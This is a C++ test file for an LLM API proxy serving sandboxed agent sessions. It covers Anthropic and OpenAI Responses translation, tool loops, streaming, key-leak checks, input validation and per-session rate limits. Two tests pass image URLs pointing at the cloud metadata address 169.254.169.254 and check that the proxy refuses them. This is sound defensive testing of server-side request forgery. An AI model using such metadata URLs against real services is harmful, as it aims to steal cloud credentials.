  ASSERT_EQ(r2.status, 200u) << r2.body;
  EXPECT_TRUE(KeyLeak(r2.body).empty());
  Json anth = up_->requests().back().Json();
  EXPECT_EQ(up_->requests().back().target, "/v1/messages");
  ASSERT_EQ(anth["messages"].size(), 3u) << anth.dump();
  EXPECT_EQ(anth["messages"][2]["content"][0]["type"], "tool_result");
  auto events = AnthropicEvents(r2.body);
  ASSERT_GE(events.size(), 5u) << r2.body;
  EXPECT_EQ(events.front().first, "message_start");
  EXPECT_EQ(events.front().second["message"]["model"], "claude");
  EXPECT_EQ(events.back().first, "message_stop");
  std::string text;
  Json usage;
  for (const auto& [event, data] : events) {
    if (event == "content_block_delta" && data["delta"]["type"] == "text_delta")
      text += data["delta"]["text"].get<std::string>();
    if (event == "message_delta") {
      EXPECT_EQ(data["delta"]["stop_reason"], "end_turn");
      usage = data["usage"];
    }
  }
  EXPECT_EQ(text, "You are in /home/sandbox.");
  auto calls = LlmCalls(id, 2);
  ASSERT_EQ(calls.size(), 2u);
  EXPECT_EQ(calls[1]["face"], "anthropic");
  EXPECT_EQ(usage["input_tokens"], calls[1]["input_tokens"]);
  EXPECT_EQ(usage["output_tokens"], calls[1]["output_tokens"]);

  // Stored once each: the tool_use echoed back as blocks is recognised as the stored reply.
  EXPECT_FALSE(calls[1].contains("history")) << calls[1].dump();
  EXPECT_EQ(calls[1]["new_messages"], 1);
  Json conv = Conversation(id);
  ASSERT_EQ(conv.size(), 5u) << conv.dump();
  EXPECT_EQ(conv[3]["role"], "tool");
  EXPECT_EQ(conv[4]["content"], "You are in /home/sandbox.");
}

TEST_F(LlmProxyTest, TheAnthropicFaceRefusesWhatItCannotCarryAndForeignKeys) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"t","model":"claude"})");
  auto messages = [&](const Json& body, const std::string& key) {
    return server_->Sb(verb::post, "/v1/messages", "", DumpJson(body), {{"x-api-key", key}});
  };
  Json ok{{"model", "claude"},
          {"max_tokens", 10},
          {"messages", Json::array({Json{{"role", "user"}, {"content", "t"}}})}};
  const size_t before = up_->requests().size();
  EXPECT_EQ(messages(ok, "ast_not-a-real-token-at-all").status, 401u);
  EXPECT_EQ(messages(ok, kKey).status, 401u);  // the provider's key is no key here
  auto with = [&](const Json& message) {
    Json b = ok;
    b["messages"] = Json::array({message});
    return messages(b, token);
  };
  auto url_image = with(Json{
      {"role", "user"},
      {"content",
       Json::array({Json{{"type", "image"},
                         {"source", {{"type", "url"}, {"url", "http://169.254.169.254/"}}}}})}});
  EXPECT_EQ(url_image.status, 400u);
  EXPECT_NE(url_image.body.find("never lets a provider fetch"), std::string::npos)
      << url_image.body;
  EXPECT_EQ(with(Json{{"role", "user"},
                      {"content", Json::array({Json{{"type", "document"}, {"source", {}}}})}})
                .status,
            400u);
  EXPECT_EQ(with(Json{{"role", "system"}, {"content", "x"}}).status, 400u);
  Json no_max = ok;
  no_max.erase("max_tokens");
  EXPECT_EQ(messages(no_max, token).status, 400u);
  // Members of the wrong type anywhere: a clear 400, never an internal error.
  for (const Json& message :
       {Json{{"role", Json::object()}, {"content", "x"}},
        Json{{"role", "user"}, {"content", Json::array({Json{{"type", 7}}})}},
        Json{{"role", "user"},
             {"content", Json::array({Json{{"type", "tool_result"},
                                           {"tool_use_id", "t"},
                                           {"is_error", "yes"},
                                           {"content", Json::array({Json{{"type", 1}}})}}})}},
        Json{{"role", "user"},
             {"content", Json::array({Json{{"type", "image"}, {"source", 5}}})}}}) {
    auto r = with(message);
    EXPECT_EQ(r.status, 400u) << message.dump() << " -> " << r.body;
  }
  Json bad_choice = ok;
  bad_choice["tool_choice"] = Json{{"type", 3}};
  EXPECT_EQ(messages(bad_choice, token).status, 400u);
  Json server_tool = ok;
  server_tool["tools"] =
      Json::array({Json{{"type", "web_search_20250305"}, {"name", "web_search"}}});
  EXPECT_EQ(messages(server_tool, token).status, 400u);
  EXPECT_EQ(up_->requests().size(), before);
}

// ---------------------------------------------------------------- the Responses API

// The OpenAI Responses API (POST /v1/responses), as the @openai/agents SDK calls it by
// default: instructions, input items echoed back with their ids, function tools, a tool loop,
// streamed and not, against an Anthropic upstream (either face reaches either kind).
TEST_F(LlmProxyTest, TheResponsesFaceRunsAToolLoopStreamedAndNotAndStoresEachMessageOnce) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"where am I","model":"claude"})");
  auto responses = [&](const Json& body) {
    return server_->Sb(verb::post, "/v1/responses", token, DumpJson(body));
  };
  Json tools = Json::array(
      {Json{{"type", "function"},
            {"name", "shell"},
            {"description", "Runs a command"},
            {"parameters", {{"type", "object"}, {"properties", {{"cmd", {{"type", "string"}}}}}}},
            {"strict", false}}});
  Json input = Json::array(
      {Json{{"role", "user"},
            {"content", Json::array({Json{{"type", "input_text"}, {"text", "where am I"}}})}}});
  up_->Enqueue(Reply::Tools({{"toolu_1", "shell", R"({"cmd":"pwd"})"}}, "Checking."));
  auto r1 = responses(Json{{"model", "claude"},
                           {"instructions", "Be brief."},
                           {"input", input},
                           {"tools", tools},
                           {"tool_choice", "required"},
                           {"max_output_tokens", 50},
                           {"store", false},
                           {"include", Json::array()},
                           {"parallel_tool_calls", true}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  EXPECT_TRUE(KeyLeak(r1.body).empty());
  Json sent = up_->requests().back().Json();
  EXPECT_EQ(up_->requests().back().target, "/v1/messages");
  EXPECT_EQ(sent["system"], "Be brief.");
  EXPECT_EQ(sent["tool_choice"], (Json{{"type", "any"}}));
  EXPECT_EQ(sent["max_tokens"], 1000);  // the alias pins it over the client's 50
  ASSERT_EQ(sent["tools"].size(), 1u);
  EXPECT_EQ(sent["tools"][0]["name"], "shell");
  Json resp = r1.json();
  EXPECT_EQ(resp["object"], "response");
  EXPECT_EQ(resp["status"], "completed");
  EXPECT_EQ(resp["model"], "claude");
  EXPECT_TRUE(resp["id"].get<std::string>().starts_with("resp_")) << resp.dump();
  ASSERT_EQ(resp["output"].size(), 2u) << resp.dump();
  EXPECT_EQ(resp["output"][0]["type"], "message");
  EXPECT_EQ(resp["output"][0]["content"][0]["type"], "output_text");
  EXPECT_EQ(resp["output"][0]["content"][0]["text"], "Checking.");
  EXPECT_EQ(resp["output"][1]["type"], "function_call");
  EXPECT_EQ(resp["output"][1]["call_id"], "toolu_1");
  EXPECT_EQ(resp["output"][1]["name"], "shell");
  EXPECT_EQ(ParseJson(resp["output"][1]["arguments"].get<std::string>()).value_or(Json()),
            (Json{{"cmd", "pwd"}}));
  EXPECT_EQ(
      resp["usage"]["total_tokens"].get<int64_t>(),
      resp["usage"]["input_tokens"].get<int64_t>() + resp["usage"]["output_tokens"].get<int64_t>());

  // The SDK sends its input again with the output items as it got them, and the tool's
  // result; this time streamed.
  for (const Json& item : resp["output"]) input.push_back(item);
  input.push_back(
      Json{{"type", "function_call_output"}, {"call_id", "toolu_1"}, {"output", "/home/sandbox"}});
  up_->Enqueue(Reply::Text("You are in /home/sandbox.").WithChunks(3));
  auto r2 = responses(Json{{"model", "claude"},
                           {"instructions", "Be brief."},
                           {"input", input},
                           {"tools", tools},
                           {"stream", true}});
  ASSERT_EQ(r2.status, 200u) << r2.body;
  EXPECT_TRUE(KeyLeak(r2.body).empty());
  sent = up_->requests().back().Json();
  ASSERT_EQ(sent["messages"].size(), 3u) << sent.dump();  // user, assistant + tool_use, result
  EXPECT_EQ(sent["messages"][1]["content"][1]["type"], "tool_use");
  EXPECT_EQ(sent["messages"][2]["content"][0]["type"], "tool_result");

  auto events = AnthropicEvents(r2.body);  // the same event:/data: framing
  ASSERT_GE(events.size(), 6u) << r2.body;
  EXPECT_EQ(events.front().first, "response.created");
  EXPECT_EQ(events.back().first, "response.completed");
  std::string text;
  int64_t expected_sequence = 0;
  for (const auto& [event, data] : events) {
    EXPECT_EQ(data["type"], event);
    EXPECT_EQ(data["sequence_number"], expected_sequence++) << event;
    if (event == "response.output_text.delta") text += data["delta"].get<std::string>();
  }
  EXPECT_EQ(text, "You are in /home/sandbox.");
  const Json& done = events.back().second["response"];
  EXPECT_EQ(done["status"], "completed");
  EXPECT_EQ(done["output"][0]["content"][0]["text"], "You are in /home/sandbox.");
  auto calls = LlmCalls(id, 2);
  ASSERT_EQ(calls.size(), 2u);
  EXPECT_EQ(calls[1]["face"], "openai-responses");
  EXPECT_EQ(done["usage"]["input_tokens"], calls[1]["input_tokens"]);
  EXPECT_EQ(done["usage"]["output_tokens"], calls[1]["output_tokens"]);

  // The client's first call put the instructions first.
  ExpectToolLoopStoredOnce(id, "toolu_1", "You are in /home/sandbox.");
  EXPECT_FALSE(calls[1].contains("history")) << calls[1].dump();
  EXPECT_EQ(calls[1]["new_messages"], 1);  // the tool's result: the tool call was the reply
}

// What the client sets reaches an OpenAI upstream in Chat Completions' names, under the
// alias's cap.
TEST_F(LlmProxyTest, TheResponsesFaceTranslatesTheClientsParameters) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"t","models":["capped"]})");
  auto call = [&](const std::string& model, const Json& extra) {
    Json body{{"model", model}, {"input", "t"}};
    body.update(extra);
    auto r = server_->Sb(verb::post, "/v1/responses", token, DumpJson(body));
    EXPECT_EQ(r.status, 200u) << r.body;
    return up_->requests().back().Json();
  };
  Json sent = call("default", Json{{"max_output_tokens", 7},
                                   {"temperature", 0.3},
                                   {"top_p", 0.9},
                                   {"parallel_tool_calls", false},
                                   {"text", {{"format", {{"type", "json_object"}}}}},
                                   {"tool_choice", "none"},
                                   {"metadata", {{"k", "v"}}},
                                   {"reasoning", {{"effort", "low"}}},
                                   {"truncation", "auto"}});
  EXPECT_EQ(sent["max_tokens"], 7);
  EXPECT_EQ(sent["temperature"], 0.3);
  EXPECT_EQ(sent["top_p"], 0.9);
  EXPECT_EQ(sent["parallel_tool_calls"], false);
  EXPECT_EQ(sent["response_format"], (Json{{"type", "json_object"}}));
  EXPECT_EQ(sent["tool_choice"], "none");
  for (const char* dropped : {"metadata", "reasoning", "truncation", "max_output_tokens", "text"})
    EXPECT_FALSE(sent.contains(dropped)) << dropped << ": " << sent.dump();
  Json schema{{"type", "object"}, {"properties", {{"n", {{"type", "integer"}}}}}};
  sent = call("default", Json{{"text",
                               {{"format",
                                 {{"type", "json_schema"},
                                  {"name", "count"},
                                  {"schema", schema},
                                  {"strict", true}}}}}});
  EXPECT_EQ(sent["response_format"],
            (Json{{"type", "json_schema"},
                  {"json_schema", {{"name", "count"}, {"schema", schema}, {"strict", true}}}}));
  // The alias's max_output_tokens caps the client's, and sets it when the client sets none.
  EXPECT_EQ(call("capped", Json{{"max_output_tokens", 5000}})["max_tokens"], 100);
  EXPECT_EQ(call("capped", Json::object())["max_tokens"], 100);
  // A length stop is an incomplete response.
  up_->Enqueue(Reply::Text("cut sh").WithFinish(fake::Finish::kLength));
  auto cut = server_->Sb(verb::post, "/v1/responses", token,
                         DumpJson(Json{{"model", "default"}, {"input", "t"}}));
  ASSERT_EQ(cut.status, 200u) << cut.body;
  EXPECT_EQ(cut.json()["status"], "incomplete");
  EXPECT_EQ(cut.json()["incomplete_details"], (Json{{"reason", "max_output_tokens"}}));
}

// An upstream that breaks off mid-stream: the client's stream ends with the Responses API's
// error event, after what it had, and nothing of the call is stored.
TEST_F(LlmProxyTest, TheResponsesFaceEndsABrokenStreamWithAnErrorEvent) {
  SetUpBoth();
  auto [id, token] = Session();
  const size_t stored = Conversation(id).size();
  up_->Enqueue(Reply::Text("a b c d e f").WithChunks(6).CloseAfterEvents(2));
  auto r = server_->Sb(verb::post, "/v1/responses", token,
                       DumpJson(Json{{"model", "default"}, {"input", "t"}, {"stream", true}}));
  ASSERT_EQ(r.status, 200u) << r.body;
  auto events = AnthropicEvents(r.body);  // the same event:/data: framing
  ASSERT_GE(events.size(), 3u) << r.body;
  EXPECT_EQ(events.front().first, "response.created");
  const auto& [last, data] = events.back();
  EXPECT_EQ(last, "error") << r.body;
  EXPECT_EQ(data["type"], "error");
  EXPECT_FALSE(data["code"].get<std::string>().empty()) << data.dump();
  EXPECT_EQ(data["sequence_number"], static_cast<int64_t>(events.size() - 1));
  for (const auto& [event, ignored] : events) EXPECT_NE(event, "response.completed");
  EXPECT_TRUE(KeyLeak(r.body).empty());
  EXPECT_EQ(Conversation(id).size(), stored);
}

TEST_F(LlmProxyTest, TheResponsesFaceRefusesWhatItCannotCarry) {
  SetUpBoth();
  auto [id, token] = Session();
  Json ok{{"model", "default"}, {"input", "t"}};
  const size_t before = up_->requests().size();
  auto with = [&](const std::string& key, const Json& value) {
    Json b = ok;
    b[key] = value;
    return server_->Sb(verb::post, "/v1/responses", token, DumpJson(b));
  };
  auto stateful = with("previous_response_id", "resp_abc");
  EXPECT_EQ(stateful.status, 400u);
  EXPECT_NE(stateful.body.find("send the whole conversation"), std::string::npos) << stateful.body;
  EXPECT_EQ(with("conversation", "conv_1").status, 400u);
  EXPECT_EQ(with("background", true).status, 400u);
  EXPECT_EQ(with("frobnicate", 1).status, 400u);
  EXPECT_EQ(with("tools", Json::array({Json{{"type", "web_search"}}})).status, 400u);
  auto url_image = with(
      "input", Json::array({Json{
                   {"role", "user"},
                   {"content", Json::array({Json{{"type", "input_image"},
                                                 {"image_url", "http://169.254.169.254/"}}})}}}));
  EXPECT_EQ(url_image.status, 400u);
  EXPECT_NE(url_image.body.find("never lets a model provider fetch"), std::string::npos)
      << url_image.body;
  // Members of the wrong type anywhere: a clear 400, never an internal error.
  for (const Json& input : {
           Json(nullptr),
           Json(7),
           Json::array(),
           Json::array({Json{{"type", "item_reference"}, {"id", "x"}}}),
           Json::array({Json{{"role", "tool"}, {"content", "x"}}}),
           Json::array({Json{{"role", "user"}, {"content", Json::array({Json{{"type", 1}}})}}}),
           Json::array({Json{{"type", "function_call"}, {"call_id", 5}}}),
           Json::array({Json{{"type", "function_call_output"}, {"call_id", "c"}, {"output", 5}}}),
           Json::array({Json{{"role", "system"}, {"content", "only instructions"}}}),
       }) {
    auto r = with("input", input);
    EXPECT_EQ(r.status, 400u) << input.dump() << " -> " << r.body;
  }
  for (const auto& [key, value] : std::vector<std::pair<std::string, Json>>{
           {"tool_choice", Json{{"type", 3}}},
           {"max_output_tokens", -1},
           {"temperature", "hot"},
           {"text", Json{{"format", {{"type", "yaml"}}}}},
           {"instructions", Json::array()},
           {"stream", "yes"},
       }) {
    auto r = with(key, value);
    EXPECT_EQ(r.status, 400u) << key << " " << value.dump() << " -> " << r.body;
  }
  EXPECT_EQ(up_->requests().size(), before);
}

// A sandbox hammering a face: calls of its session past the limit (here 1) are refused at once
// (409) and reach no upstream, a body over the limit is refused before it is read (413), and
// another session's call goes through meanwhile.
TEST_F(LlmProxyTest, ASandboxFloodingTheFacesStarvesNoOtherSession) {
  StartUpstream();
  StartServer({.max_concurrent_llm_calls = 1});
  auto [a, ta] = Session();
  auto [b, tb] = Session();
  up_->Enqueue(Reply::Default().WithDelay(1500ms));
  const Json body{{"model", "default"}, {"messages", Json::array({UserMsg("count the files")})}};
  HttpResult held;
  std::thread first([&, ta = ta] { held = Completions(ta, body); });
  ASSERT_TRUE(up_->WaitForRequests(1));
  std::vector<std::thread> flood;
  std::vector<unsigned> statuses(16);
  for (size_t i = 0; i < statuses.size(); ++i) {
    flood.emplace_back([&, i, ta = ta] {
      Json anthropic{{"model", "default"}, {"max_tokens", 10}, {"messages", body["messages"]}};
      statuses[i] = i % 2 ? Completions(ta, body).status
                          : server_->Sb(verb::post, "/v1/messages", ta, DumpJson(anthropic)).status;
    });
  }
  for (auto& t : flood) t.join();
  for (unsigned st : statuses) EXPECT_EQ(st, 409u);
  const std::string huge =
      DumpJson(Json{{"model", "default"},
                    {"messages", Json::array({UserMsg(std::string(2 * 1024 * 1024, 'x'))})}});
  EXPECT_EQ(server_->Sb(verb::post, "/v1/chat/completions", ta, huge).status, 413u);
  EXPECT_EQ(server_->Sb(verb::post, "/v1/messages", ta, huge).status, 413u);
  // The other session is served while the first call still holds its own.
  auto other = Completions(tb, body);
  EXPECT_EQ(other.status, 200u) << other.body;
  first.join();
  EXPECT_EQ(held.status, 200u) << held.body;
  EXPECT_EQ(up_->requests().size(), 2u);  // the held call and the other session's, no more
  EXPECT_EQ(server_->Op(verb::get, "/v1/sessions/" + a).json()["usage"]["llm_calls"], 1);
}

}  // namespace
}  // namespace airlock::testing
